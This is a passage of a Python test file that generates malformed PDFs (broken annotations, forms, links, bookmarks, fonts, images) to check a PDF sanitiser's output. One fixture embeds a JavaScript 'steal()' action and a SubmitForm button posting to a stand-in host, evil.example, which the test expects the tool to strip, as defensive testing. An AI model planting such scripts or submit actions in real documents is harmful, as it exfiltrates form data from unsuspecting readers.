        b"<< /Type /Annot /Subtype /Polygon /Rect [20 200 90 250] /Vertices [20 200 50 250 90 200] %s >>" % who,
        more={130: b"<< /Type /Annot /Subtype /Popup /Rect [0 0 90 90] /Parent 100 0 R /Open true >>"},
    )


@case(notices="blank-annotations links-dropped flattened")
def annotations_that_are_none() -> bytes:
    return with_annotations(
        b"<< /Type /Annot >>",
        b"<< /Subtype /Highlight >>",
        b"<< /Subtype /Highlight /Rect [1 2 3] >>",
        b"<< /Subtype /Highlight /Rect [(a) 2 3 4] >>",
        b"(words)",
        b"null",
        b"[1 2 3]",
        b"<< /Subtype /Highlight /Rect [70 690 200 715] /QuadPoints [1 2 3] /C [1 2 3 4 5] >>",
        b"<< /Subtype (Highlight) /Rect [70 690 200 715] >>",
        b"<< /Subtype /Ink /Rect [70 690 200 715] /InkList [null [1] (x)] >>",
        b"<< /Subtype /Link /Rect [70 690 200 715] /A (x) /Dest 7 >>",
        b"<< /Subtype /Stamp /Rect [70 690 200 715] /AP (x) >>",
        b"<< /Subtype /Stamp /Rect [70 690 200 715] /AP << /N << /On 4 0 R >> >> /AS /Off >>",
    )


@case(asks="damaged")
def annotations_that_are_no_list() -> bytes:
    return one_page(b"/MediaBox [0 0 612 792] /Contents 4 0 R /Annots (none)")


@case()
def annotations_by_the_thousand() -> bytes:
    return with_annotations(
        *(link(b"/A << /S /URI /URI (https://example.org/%d) >>" % number) for number in range(1500))
    )


# ── Forms ───────────────────────────────────────────────────────────────────────────────────────────────────────────


def form(*fields: bytes, catalog: bytes = b"", more: Mapping[int, bytes] | None = None, box: bytes = b"") -> bytes:
    """Fields that are their own widgets, numbered from 100."""
    numbered = {100 + number: body for number, body in enumerate(fields)}
    listed = b" ".join(b"%d 0 R" % number for number in numbered)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [%s] /DA (/F1 0 Tf 0 g) "
        b"/DR << /Font << /F1 5 0 R >> >> %s >> >>" % (listed, catalog),
    }
    page = b"%s /Contents 4 0 R /Annots [%s]" % (box or b"/MediaBox [0 0 612 792]", listed)
    return one_page(page, more=objects | numbered | dict(more or {}))


def field(kind: bytes, value: bytes, place: bytes = b"100 500 300 520", more: bytes = b"") -> bytes:
    return b"<< /Type /Annot /Subtype /Widget /Rect [%s] /FT /%s /T (name) /V %s %s >>" % (place, kind, value, more)


@case(words=["Amina Diallo", "second line of many", "Conakry"])
def filled_in_without_a_drawing() -> bytes:
    return form(
        field(b"Tx", b"(Amina Diallo)"),
        field(b"Tx", b"(first line\\rsecond line of many)", b"100 400 300 460", b"/Ff 4096"),
        field(b"Ch", b"(c)", b"100 300 200 320", b"/Ff 131072 /Opt [[(c) (Conakry)] [(d) (Dakar)]]"),
        field(b"Tx", b"()", b"100 250 200 270"),
        field(b"Btn", b"/Yes", b"100 200 112 212", b"/AS /Yes"),
        catalog=b"/NeedAppearances true",
    )


@case(words=["Dakar"])
def choices_with_drawings_of_their_own() -> bytes:
    """As office programs write them. One reader adds an arrow to the first, and to the others all one could choose."""
    box = b"/Type /XObject /Subtype /Form /BBox [0 0 200 60] /Resources << /Font << /F1 5 0 R >> >>"
    empty = stream(b"0 0 m 200 0 l 200 60 l 0 60 l s", box)
    chosen = stream(b"/Tx BMC BT /F1 12 Tf 2 40 Td (Dakar) Tj ET EMC", box)
    choices = b"/Opt [(Bissau) (Conakry) (Dakar)] /AP << /N %d 0 R >>"
    return form(
        field(b"Ch", b"()", b"100 500 300 560", b"/Ff 131072 " + choices % 30),
        field(b"Ch", b"()", b"100 400 300 460", choices % 30),
        field(b"Ch", b"(Dakar)", b"100 300 300 360", choices % 31),
        catalog=b"/NeedAppearances true",
        more={30: empty, 31: chosen},
    )


@case(words=["Ñuñoa", "Диалло", "Đặng Thị"])
def filled_in_with_letters_of_many_scripts() -> bytes:
    values = ("Ñuñoa, Región", "Амина Диалло", "Đặng Thị Minh")
    return form(
        *(
            field(
                b"Tx", b"<%s>" % ("\ufeff" + value).encode("utf-16-be").hex().encode(), b"100 %d 300 %d" % (y, y + 20)
            )
            for value, y in zip(values, (500, 460, 420), strict=True)
        )
    )


@case(words=["Amina Diallo"])
def drawn_differently_from_what_was_filled_in() -> bytes:
    """The drawing is an old one: what the form holds now is what the client said."""
    old = stream(
        b"/Tx BMC BT /F1 12 Tf 2 5 Td (Name here) Tj ET EMC",
        b"/Type /XObject /Subtype /Form /BBox [0 0 200 20] /Resources << /Font << /F1 5 0 R >> >>",
    )
    return form(field(b"Tx", b"(Amina Diallo)", more=b"/AP << /N 30 0 R >>"), more={30: old})


@case(words=["Amina Diallo"], notices="turned")
def filled_in_on_a_turned_and_cropped_page() -> bytes:
    return form(
        field(b"Tx", b"(Amina Diallo)"),
        box=b"/MediaBox [-50 -50 612 792] /CropBox [50 400 562 760] /Rotate 90 /UserUnit 2",
    )


@case(words=["Amina Diallo"], notices="active", gone=[b"JavaScript", b"/XFA", b"SubmitForm", b"AcroForm", b"Widget"])
def filled_in_with_scripts_behind_it() -> bytes:
    acts = b"/AA << /K << /S /JavaScript /JS (steal\\(\\)) >> >>"
    return form(
        field(b"Tx", b"(Amina Diallo)", more=acts),
        b"<< /Type /Annot /Subtype /Widget /Rect [300 40 380 60] /FT /Btn /Ff 65536 /T (send) /MK << /CA (Send) >> "
        b"/A << /S /SubmitForm /F (http://evil.example/) >> >>",
        catalog=b"/XFA [(template) 30 0 R]",
        more={30: stream(b"<template/>")},
    )


@case(refused="xfa")
def form_that_one_program_shows() -> bytes:
    return form(catalog=b"/XFA [(template) 30 0 R]", more={30: stream(b"<template/>")})


@case(notices="hidden-annotations", gone=[SECRET.encode()])
def filled_in_and_hidden() -> bytes:
    return form(field(b"Tx", b"(%s)" % SECRET.encode(), more=b"/F 2"))


@case(words=["Amina"], notices="signatures")
def signed() -> bytes:
    look = stream(
        b"BT /F1 10 Tf 2 5 Td (Signed by Amina) Tj ET",
        b"/Type /XObject /Subtype /Form /BBox [0 0 200 20] /Resources << /Font << /F1 5 0 R >> >>",
    )
    signature = b"<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 1 2 3] /Contents <00> /Name (Amina) >>"
    return form(field(b"Sig", b"31 0 R", more=b"/AP << /N 30 0 R >>"), more={30: look, 31: signature})


@case()
def fields_that_are_none() -> bytes:
    return form(
        field(b"Tx", b"null"),
        field(b"Tx", b"[(a) 1 null]", b"1 1 1 1"),
        field(b"Odd", b"(x)"),
        field(b"Btn", b"(On)", more=b"/AP << /N << /On null >> >>"),
        b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /Parent 104 0 R >>",
        catalog=b"/NeedAppearances (yes)",
    )


@case(words=["Amina"])
def field_whose_parents_go_round() -> bytes:
    return form(
        b"<< /Type /Annot /Subtype /Widget /Rect [100 500 300 520] /Parent 30 0 R >>",
        more={
            30: b"<< /FT /Tx /V (Amina) /Parent 31 0 R /Kids [100 0 R] >>",
            31: b"<< /Parent 30 0 R /Kids [30 0 R] >>",
        },
    )


@case(words=["Received 4 March", "translated below"])
def words_typed_on_without_a_drawing() -> bytes:
    return with_annotations(
        b"<< /Type /Annot /Subtype /FreeText /Rect [300 300 450 340] /Contents (Received 4 March\\rtranslated below) "
        b"/DA (/Helv 11 Tf) /T (Mei Chen) >>",
    )


# ── Links, bookmarks, labels ────────────────────────────────────────────────────────────────────────────────────────


def book(catalog: bytes, more: Mapping[int, bytes], annotations: bytes = b"") -> bytes:
    pages = {
        10 + n: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R /Resources 30 0 R %s >>"
        % (20 + n, annotations if n == 0 else b"")
        for n in range(3)
    }
    texts = {20 + n: stream(text_operators(n + 1)) for n in range(3)}
    base = {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        2: b"<< /Type /Pages /Count 3 /Kids [10 0 R 11 0 R 12 0 R] >>",
        30: b"<< /Font << /F1 31 0 R >> >>",
        31: FONT,
    }
    return raw(base | pages | texts | dict(more))


@case(pages=3, notices="links-dropped")
def links_of_every_kind() -> bytes:
    return book(
        b"/Dests << /old [11 0 R /FitH 500] >> /Names << /Dests << /Kids [50 0 R 51 0 R 52 0 R] >> >>",
        {
            50: b"<< /Limits [(a) (b)] /Names [(a) [12 0 R /XYZ 10 20 0] (b) << /D [11 0 R /Fit] >>] >>",
            51: b"<< /Kids [50 0 R 51 0 R] >>",
            52: b"<< /Names [(loop) (loop) (dead) [99 0 R /Fit]] >>",
            **{
                60 + n: link(target)
                for n, target in enumerate(
                    (
                        b"/Dest [11 0 R /XYZ 0 700 2]",
                        b"/Dest /old",
                        b"/Dest (a)",
                        b"/A << /S /GoTo /D (b) >>",
                        b"/A << /S /GoTo /D [2 /FitR 5 6 7 8] >>",
                        b"/Dest (loop)",
                        b"/Dest (dead)",
                        b"/Dest [7 /Fit]",
                        b"/Dest []",
                    )
                )
            },
        },
        b"/Annots [%s]" % b" ".join(b"%d 0 R" % n for n in range(60, 69)),
    )


@case(pages=3, notices="bookmarks-dropped")
def bookmarks_that_go_round() -> bytes:
    return book(
        b"/Outlines 40 0 R",
        {
            40: b"<< /Type /Outlines /First 41 0 R /Last 43 0 R /Count 3 >>",
            41: b"<< /Title (One) /Dest [10 0 R /Fit] /Next 42 0 R /Parent 40 0 R /First 43 0 R /Last 41 0 R >>",
            42: b"<< /Title (Nowhere) /Dest (gone) /Next 41 0 R /Parent 40 0 R >>",
            43: b"<< /Title (Deep) /A << /S /GoTo /D [12 0 R /XYZ 1 2 3] >> /First 40 0 R >>",
        },
    )


@case(pages=3)
def bookmarks_nested_too_deep() -> bytes:
    levels = {
        41 + n: b"<< /Title (Level %d) /Dest [10 0 R /Fit] /First %d 0 R /Last %d 0 R >>" % (n, 42 + n, 42 + n)
        for n in range(200)
    }
    return book(b"/Outlines << /First 41 0 R /Last 41 0 R >>", levels)


@case(pages=3)
def bookmarks_nested_by_the_thousand() -> bytes:
    levels = {
        41 + n: b"<< /Title (Level %d) /Dest [10 0 R /Fit] /First %d 0 R /Last %d 0 R >>" % (n, 42 + n, 42 + n)
        for n in range(8000)
    }
    return book(b"/Outlines << /First 41 0 R /Last 41 0 R >>", levels)


@case(pages=3)
def labels_that_are_broken() -> bytes:
    labels = b"/PageLabels << /Kids [70 0 R] /Nums [0 << /S /r >> 1 (x) (y) << >> 2 << /S /D /St 57 /P (A-) >>] >>"
    return book(labels, {70: b"<< /Kids [70 0 R] >>"})


@case(pages=3, notices="active")
def structure_that_is_broken() -> bytes:
    return book(
        b"/StructTreeRoot 70 0 R /MarkInfo (x) /Lang 5 /Outlines (x) /Names [1] /Dests 7 /PageLabels (x) /AcroForm [1] "
        b"/OCProperties (x) /ViewerPreferences 1 /OpenAction 10 0 R",
        {70: b"<< /K 70 0 R /ParentTree 70 0 R >>"},
    )


# ── Fonts and pictures ──────────────────────────────────────────────────────────────────────────────────────────────


@case(pages=1, tokens=False, words=["aaaa"])
def letters_drawn_by_the_file_itself() -> bytes:
    """A Type 3 font: each letter is a small drawing, and nothing says which letter it is."""
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 10 10] /FontMatrix [0.1 0 0 0.1 0 0] "
        b"/FirstChar 97 /LastChar 97 "
        b"/Widths [10] /Encoding << /Differences [97 /box] >> /CharProcs << /box 7 0 R >> /Resources << >> >>"
    )
    drawn = stream(b"10 0 0 0 10 10 d1 0 0 8 8 re f")
    return one_page(content=b"BT /F1 20 Tf 50 500 Td (aaaa) Tj ET", more={5: font, 7: drawn})


@case(pages=1, tokens=False, words=["aaaa"], gone=[b"Protected Person"])
def letters_that_draw_with_forms_of_their_own() -> bytes:
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 10 10] /FontMatrix [0.1 0 0 0.1 0 0] "
        b"/FirstChar 97 /LastChar 97 /Widths [10] /Encoding << /Differences [97 /box] >> /CharProcs << /box 7 0 R >> >>"
    )
    drawn = stream(b"10 0 0 0 10 10 d1 0 0 8 8 re f /X Do", b"/Resources << /XObject << /X 8 0 R >> >>")
    told = b"/Type /XObject /Subtype /Form /BBox [0 0 8 8] /PieceInfo << /Tool << /Private (Protected Person) >> >>"
    form = stream(b"0 0 4 4 re f", told)
    return one_page(content=b"BT /F1 20 Tf 50 500 Td (aaaa) Tj ET", more={5: font, 7: drawn, 8: form})


@case()
def fonts_that_are_none() -> bytes:
    return one_page(
        content=text_operators(1) + b" BT /F2 12 Tf 50 50 Td (x) Tj /F9 12 Tf (y) Tj ET",
        more={6: b"(no font)", 7: b"<< /Type /Font /Subtype /TrueType /FontDescriptor << /FontFile2 4 0 R >> >>"},
        resources=b"/ExtGState (x) /ColorSpace [1] /XObject << /X (y) /Y 5 0 R >> /Pattern << /P 7 0 R >>",
    )


@case(notices="no-text", pages=2)
def scans_of_one_bit() -> bytes:
    def scan(pdf: Pdf) -> None:
        for page in pdf.pages:
            rows = b"".join(bytes([0xAA if (row // 8) % 2 else 0xFF] * 64) for row in range(600))
            image = Stream(pdf, zlib.compress(rows), Type=Name.XObject, Subtype=Name.Image, Width=512, Height=600)
            image[Name.ColorSpace], image[Name.BitsPerComponent], image[Name.Filter] = (
                Name.DeviceGray,
                1,
                Name.FlateDecode,
            )
            page.obj[Name.Resources] = Dictionary(XObject=Dictionary(Im=pdf.make_indirect(image)))
            page.obj[Name.Contents] = pdf.make_indirect(Stream(pdf, b"q 612 0 0 792 0 0 cm /Im Do Q"))

    return changed(scan, 2)


@case(asks="damaged")
def pictures_that_cannot_be_read() -> bytes:
    kinds = (b"JBIG2Decode", b"JPXDecode", b"DCTDecode", b"CCITTFaxDecode", b"FlateDecode", b"NoSuchDecode")
    images = {
        10 + n: stream(
            b"\x00\x01broken",
            b"/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /%s"
            % kind,
        )
        for n, kind in enumerate(kinds)
    }
    names = b" ".join(b"/I%d %d 0 R" % (n, n) for n in images)
    drawn = b" ".join(b"q 9 0 0 9 9 9 cm /I%d Do Q" % n for n in images)
    return one_page(content=text_operators(1) + b" " + drawn, more=images, resources=b"/XObject << %s >>" % names)


@case(refused="pdf-picture-too-large")
def picture_of_a_billion_points() -> bytes:
    image = stream(
        b"x", b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8"
    )
    return one_page(content=b"q 9 0 0 9 9 9 cm /Im Do Q", more={6: image}, resources=b"/XObject << /Im 6 0 R >>")


@case(asks="damaged")
def names_with_nothing_and_words_with_halves() -> bytes:
    return one_page(
        b"/MediaBox [0 0 612 792] /Contents 4 0 R /Na#00me#20#ff <feffd800> /Odd#2fName (\xd8\x00)",
        content=b"/Odd#00Tag BMC " + text_operators(1) + b" EMC",
        trailer=b"/Info << /Author <feffd800d800> /Title (\\377\\376\\000\\330) >>",
    )
